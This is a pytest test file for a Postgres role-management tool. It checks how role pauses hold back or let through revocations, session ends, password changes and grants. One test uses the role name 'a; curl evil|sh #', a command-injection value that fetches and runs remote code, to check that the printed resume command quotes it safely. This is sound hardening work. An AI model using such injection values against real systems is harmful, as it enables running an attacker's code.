"""What a pause holds of a plan, and what it never holds (rule 26, ADR 45)."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from regent.changes import (
    AlterRole,
    Change,
    ClearPassword,
    EndSessions,
    GrantMembership,
    Plan,
    RevokeMembership,
    RevokePrivileges,
    SetPassword,
)
from regent.desired import Desired
from regent.gate.losses import losses
from regent.gate.pauses import Standing, held_by, with_pauses
from regent.gate.refusals import Refusal
from regent.observed import (
    AclItem,
    ObjectGroup,
    Observed,
    ObservedDatabase,
    ObservedMembership,
    ObservedServer,
)
from regent.passes import forms
from regent.passes.full import decided
from regent.passes.look import Looked, Memory, compared
from regent.passes.outcomes import settle
from regent.plan.matching import Compilations
from regent.plan.passwords import verifier_digest
from regent.remembered import AcceptedState, BrakeMemory, Mark, Pause
from regent.resolve import Situation, resolve
from shared.keys import ResourceKey
from shared.privileges import ObjectKind
from shared.state import Verifier
from tests.declared import NOON, REGENT, VERIFIER, accepted, mark, role, server, state

pytestmark = pytest.mark.rule("26")
MARKS = (mark("viewer", "Role/viewer"), mark("eve", "User/eve"))
END = NOON + timedelta(hours=1)
FOR_A_TIME = """
Role/viewer: {database: mydb}
User/eve: {database: mydb, access: [{role: viewer, reason: x, until: '2026-06-01T13:00:00Z'}]}
"""
WITHOUT = "Role/viewer: {database: mydb}\nUser/eve: {database: mydb}"
MEMBER = ObservedMembership("viewer", "eve", "my-admin", admin=False)


def there(*members: ObservedMembership) -> ObservedServer:
    return replace(server(role("viewer"), role("eve", login=True)), memberships=members)


def paused(on: ObservedServer, *names: str) -> tuple[Pause, ...]:
    """Since noon, for three hours."""
    end = NOON + timedelta(hours=3)
    return tuple(Pause(on.roles[one].oid, one, end, "page 4711", "oncall", NOON) for one in names)


def look(
    after: AcceptedState,
    on: ObservedServer,
    pauses: tuple[Pause, ...],
    *,
    before: AcceptedState | None = None,
    brake: BrakeMemory | None = None,
    hours: float = 0.5,
    marks: tuple[Mark, ...] = MARKS,
    databases: Iterable[ObservedDatabase] = (ObservedDatabase("mydb", ()),),
) -> Looked:
    """What is seen so many hours after noon, by the clock of the server and of the Regent."""
    brake = brake or BrakeMemory(baseline=before)
    situation = Situation(
        accepted=after,
        marks=marks,
        server=on,
        regent=REGENT,
        served=("mydb",),
        now=NOON + timedelta(hours=hours),
    )
    memory = Memory(accepted=after, brake=brake, pauses=pauses)
    observed = Observed(on, {one.name: one for one in databases})
    return compared(situation, resolve(situation), observed, {}, memory, Compilations())


def done(looked: Looked) -> tuple[Change, ...]:
    return looked.verdict.plan.changes


@pytest.mark.found("E238")
@pytest.mark.parametrize("names", [("eve",), ("viewer",), ("eve", "viewer")])
def test_access_for_a_time_ends_in_time_though_its_roles_are_paused(names: tuple[str, ...]) -> None:
    """The membership and the sessions, and not a moment before."""
    before, on = accepted(state(FOR_A_TIME)), there(MEMBER)
    early = look(before, on, paused(on, *names), before=before)
    assert done(early) == ()
    assert early.resolution.next_due == END
    late = look(before, on, paused(on, *names), before=before, hours=1)
    membership, sessions = done(late)
    assert isinstance(membership, RevokeMembership)
    assert (membership.group, membership.member) == ("viewer", "eve")
    assert isinstance(sessions, EndSessions)


@pytest.mark.found("E238", "E270")
@pytest.mark.parametrize("names", [("eve",), ("viewer",), ("eve", "viewer")])
@pytest.mark.parametrize("hours", [0.5, 2])
def test_what_is_taken_out_of_git_goes_though_it_ended_before_the_pause_began(
    names: tuple[str, ...], hours: float
) -> None:
    before, on = accepted(state(FOR_A_TIME)), there(MEMBER)
    after = accepted(state(WITHOUT, revision=2), before)
    late = tuple(replace(one, since=END + timedelta(minutes=1)) for one in paused(on, *names))
    membership = done(look(after, on, late, before=before, hours=hours))[0]
    assert isinstance(membership, RevokeMembership)


@pytest.mark.found("E238")
def test_twin_what_no_declaration_gave_stays() -> None:
    """Also where Git takes something else of the role."""
    before, on = accepted(state(WITHOUT)), there(MEMBER)
    found = look(before, on, paused(on, "eve"), before=before)
    assert done(found) == ()
    assert [type(one) for one in found.held] == [RevokeMembership]
    before = accepted(state(READS.replace("roles: [viewer]", "database: mydb")))
    after = accepted(state("Role/viewer: {database: mydb}\nUser/eve: {database: mydb}"), before)
    found = look(after, on, paused(on, "viewer"), before=before, databases=(TABLE,))
    (taken,) = done(found)
    assert isinstance(taken, RevokePrivileges)
    assert taken.privileges == {"SELECT"}, "what Git gave"
    held = [one.privileges for one in found.held if isinstance(one, RevokePrivileges)]
    assert held == [{"DELETE"}], "what somebody gave"


@pytest.mark.found("E270")
def test_what_git_took_is_not_held_by_a_pause_that_begins_before_it_is_gone() -> None:
    """It was refused for a moment, or the Regent was killed: the baseline is another by then."""
    text = READS.replace("roles: [viewer]", "database: mydb")
    before, on = accepted(state(text)), there()
    after = accepted(state("Role/viewer: {database: mydb}\nUser/eve: {database: mydb}"), before)
    first = look(after, on, (), before=before, databases=(TABLE,))
    brake = decided(BrakeMemory(baseline=before), first, after, NOON)
    assert brake.baseline is after
    again = look(after, on, paused(on, "viewer"), brake=brake, databases=(TABLE,))
    assert [type(one) for one in done(again)] == [RevokePrivileges]
    clean = replace(TABLE, groups=(replace(TABLE.groups[0], acl=()),))
    gone = look(after, on, paused(on, "viewer"), brake=brake, databases=(clean,))
    assert decided(brake, gone, after, NOON).owed == frozenset()


@pytest.mark.found("E270")
def test_an_end_is_not_held_where_the_user_leaves_the_role_of_its_name_in_the_same_push() -> None:
    """Whoever was the person of that role is so no more, as if deleted."""
    both = "Role/eve: {database: mydb}\nUser/eve: {roles: [eve]%s}"
    before, on = accepted(state(both % "")), there()
    after = accepted(state(both % ", userName: other, enabled: false", revision=2), before)
    found = look(after, on, paused(on, "eve"), before=before, marks=(mark("eve", "Role/eve"),))
    login, *_ = (one for one in done(found) if isinstance(one, AlterRole))
    assert login.role == "eve"
    assert login.login is False


def test_what_git_takes_goes_where_somebody_gave_the_role_its_new_name_already() -> None:
    """The earlier declarations knew it by the old name; what he gave stays."""
    text = READS.replace("User/eve: {roles: [viewer]}", "")
    before = accepted(state(text))
    new = "Role/viewer: {database: mydb, roleName: seen}"
    after = accepted(state(new, revision=2), before)
    on = server(role("seen", oid=77))
    acl = tuple(replace(one, grantee="seen") for one in ACL)
    table = replace(TABLE, groups=(replace(TABLE.groups[0], acl=acl),))
    marks = (mark("viewer", "Role/viewer", oid=77),)
    found = look(after, on, paused(on, "seen"), before=before, marks=marks, databases=(table,))
    taken = [one.privileges for one in done(found) if isinstance(one, RevokePrivileges)]
    assert taken == [{"SELECT"}]
    held = [one.privileges for one in found.held if isinstance(one, RevokePrivileges)]
    assert held == [{"DELETE"}]


@pytest.mark.found("E317")
@pytest.mark.parametrize("is_rotated", [True, False])
def test_a_password_that_is_rotated_is_not_held_and_one_that_somebody_set_is(
    is_rotated: bool,
) -> None:
    """By the rotation the former one ends, which may be the reason for it."""
    new = Verifier(VERIFIER)
    after = accepted(
        state("User/eve: {database: mydb}", passwords={"User/eve": {"verifier": VERIFIER}})
    )
    last = "of the one before" if is_rotated else verifier_digest(new)
    marks = (replace(mark("eve", "User/eve"), verifier_digest=last),)
    by_hand = replace(role("eve", login=True), verifier=Verifier(VERIFIER.replace("4096", "8192")))
    found = look(after, server(by_hand), paused(server(by_hand), "eve"), marks=marks)
    assert [type(one) for one in done(found)] == [SetPassword] * is_rotated
    assert [type(one) for one in found.held] == [SetPassword] * (not is_rotated)


@pytest.mark.found("E273")
def test_nobody_comes_to_what_a_paused_role_was_given_by_hand() -> None:
    before, on = accepted(state(READS.replace("roles: [viewer]", "database: mydb"))), there()
    after = accepted(state(READS, revision=2), before)
    twin = look(after, on, (), before=before, databases=(TABLE,))
    assert any(isinstance(one, GrantMembership) for one in done(twin))
    found = look(after, on, paused(on, "viewer"), before=before, databases=(TABLE,))
    assert not any(isinstance(one, GrantMembership) for one in done(found))


@pytest.mark.found("E325")
def test_what_a_person_must_mend_is_said_before_a_pause_that_ends_by_itself() -> None:
    before, on = accepted(state(WITHOUT)), there(MEMBER)
    found = look(before, on, paused(on, "eve"), before=before)
    eve = ResourceKey("User", "default", "eve")
    assert settle(found, results=())[str(eve)].reason == "Paused"
    refused = Refusal(ClearPassword("eve", (eve,)), "42501", "permission denied")
    said = settle(replace(found, refused=(refused,)), results=())[str(eve)]
    assert (said.state, said.reason) == ("Stalled", "NotManageable")
    assert any("is paused until" in note for note in said.notes)


@pytest.mark.found("E328")
@pytest.mark.rule("20")
def test_the_brake_and_a_pause_ask_once_what_an_earlier_form_would_do(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Of the one in force it is known what it wants."""
    asked: list[str] = []
    for name in ("plan", "resolve"):

        def counted(*a: Any, name: str = name, real: Any = getattr(forms, name), **b: Any) -> Any:
            asked.append(name)
            return real(*a, **b)

        monkeypatch.setattr(forms, name, counted)
    before = accepted(state(READS.replace("roles: [viewer]", "database: mydb")))
    after = accepted(state("Role/viewer: {database: mydb}\nUser/eve: {database: mydb}"), before)
    found = look(after, there(), paused(there(), "eve"), before=before, databases=(TABLE,))
    assert done(found)
    assert sorted(asked) == ["plan", "resolve"]
    asked.clear()
    look(before, there(), paused(there(), "eve"), before=before, databases=(TABLE,))
    assert asked == ["plan"]


READS = """
Permission/read: {database: mydb, schemas: [s], actions: [SELECT], tables: ["*"]}
Role/viewer: {database: mydb, permissions: [read]}
User/eve: {roles: [viewer]}
"""
ACL = (AclItem("viewer", "owner", frozenset({"SELECT", "DELETE"}), frozenset()),)
TABLE = ObservedDatabase(
    "mydb", (ObjectGroup(ObjectKind.TABLE, "s", "owner", ACL, ("t",), (1,), "r"),)
)


@pytest.mark.found("E239")
@pytest.mark.parametrize(
    "allow", [{"actions": ["DELETE"]}, {"schemas": ["other"]}, {"databases": ["other"]}]
)
@pytest.mark.parametrize("lacking", ["", ", not-there"])
def test_what_a_permission_may_not_give_any_more_is_not_held_by_a_pause_of_its_role(
    allow: dict[str, list[str]], lacking: str
) -> None:
    """Whatever else is told of the Role."""
    text = READS.replace("[read]", f"[read{lacking}]")
    before = accepted(state(text))
    on = there(MEMBER)
    same = look(before, on, paused(on, "viewer"), databases=(TABLE,))
    assert done(same) == ()
    after = accepted(state(text, revision=2, regent={"allow": allow}), before)
    found = look(after, on, paused(on, "viewer"), before=before, hours=2, databases=(TABLE,))
    taken = [one for one in done(found) if isinstance(one, RevokePrivileges)]
    assert {privilege for one in taken for privilege in one.privileges} == {"SELECT", "DELETE"}
    assert found.paused[0].not_held == "the Regent does not allow all that is declared of it"


@pytest.mark.found("E239")
def test_a_membership_that_is_not_allowed_any_more_is_not_held_by_a_pause_of_the_group() -> None:
    text = "User/eve: {database: mydb, memberOf: [{role: viewer}, {role: ghost}]}"
    groups = {"allow": {"memberOf": ["viewer"]}}, {"allow": {"memberOf": ["ghost"]}}
    on, marks = there(MEMBER), MARKS[1:]
    before = accepted(state(text, regent=groups[0]))
    assert done(look(before, on, paused(on, "viewer"), marks=marks)) == ()
    after = accepted(state(text, revision=2, regent=groups[1]), before)
    (taken,) = done(look(after, on, paused(on, "viewer"), marks=marks))
    assert isinstance(taken, RevokeMembership)


SHARED = """
User/zed: {database: mydb}
Role/eve: {database: mydb}
User/eve: {database: mydb, roles: [eve]}
"""


@pytest.mark.found("E240")
def test_a_user_that_left_the_role_to_its_role_is_shut_out_and_nothing_else_is_done() -> None:
    """Also by the pass after one that could not; nothing goes that was done by hand."""
    before = accepted(state(SHARED))
    left = SHARED.replace("User/eve: {database: mydb, roles: [eve]}", "")
    after = accepted(state(left, revision=2), before)
    by_hand = replace(there().roles["eve"], connection_limit=7, verifier=Verifier(VERIFIER))
    on = there(MEMBER)
    on = replace(on, roles={**on.roles, "eve": by_hand, "zed": role("zed", login=True)})
    marks = (mark("eve", "Role/eve"), mark("zed", "User/zed"))
    found = look(after, on, paused(on, "eve"), before=before, marks=marks)
    login, sessions, password = done(found)
    assert isinstance(login, AlterRole)
    assert (login.login, login.connection_limit) == (False, None)
    assert isinstance(sessions, EndSessions)
    assert isinstance(password, ClearPassword)
    held = {type(one) for one in found.held}
    assert held == {AlterRole, RevokeMembership}


@pytest.mark.found("E240")
def test_the_deletion_of_what_never_had_the_role_ends_no_pause() -> None:
    """Another resource of its name was refused it, and is deleted."""
    text = "User/eve: {database: mydb}"
    before = accepted(state(f"{text}\nUser/mallory: {{database: mydb, userName: eve}}"))
    after = accepted(state(text, revision=2), before)
    on = there(MEMBER)
    found = look(after, on, paused(on, "eve"), before=before, marks=MARKS[1:])
    assert done(found) == ()
    assert not found.paused[0].not_held


@pytest.mark.found("E240")
def test_a_paused_role_that_nobody_declares_is_not_given_login() -> None:
    on = there()
    eve = frozenset({("eve", on.roles["eve"].oid), ("viewer", on.roles["viewer"].oid)})
    asked: list[Desired] = []

    def planned(desired: Desired) -> Plan:
        asked.append(desired)
        return Plan()

    standing = Standing(Desired(), accepted(state("")), {}, frozenset())
    held = held_by(paused(on, "eve"), on, standing)
    with_pauses(held, Desired(enabling=eve), on, planned, losses, {})
    assert {name for name, _ in asked[-1].enabling} == {"viewer"}


def test_the_way_out_is_a_command_whatever_the_role_is_called() -> None:
    name = "a; curl evil|sh #"
    on = server(role(name))
    held = held_by(paused(on, name), on, Standing(Desired(), accepted(state("")), {}, frozenset()))
    assert held.paused[0].message.endswith("postgregent resume 'a; curl evil|sh #'")


CLOSED = """
Permission/come-in: {database: mydb, actions: [CONNECT]}
User/eve: {database: mydb, permissions: [come-in]}
Role/everybody: {database: mydb, public: true}
"""


@pytest.mark.found("E240")
@pytest.mark.parametrize("is_paused", [True, False])
def test_public_keeps_connect_while_that_of_a_paused_role_waits(is_paused: bool) -> None:
    on = there()
    acl = (
        AclItem("my-admin", "owner", frozenset({"CONNECT"}), frozenset()),
        AclItem(None, "owner", frozenset({"CONNECT"}), frozenset()),
    )
    on = replace(
        on, databases=(ObjectGroup(ObjectKind.DATABASE, None, "owner", acl, ("mydb",), (5,)),)
    )
    public = {"publicPrivileges": {"connect": "Declared"}}
    after = accepted(state(CLOSED, regent=public))
    found = look(after, on, paused(on, "eve") if is_paused else (), marks=MARKS[1:])
    taken = [one for one in done(found) if isinstance(one, RevokePrivileges)]
    assert any(None in one.grantees for one in taken) is not is_paused
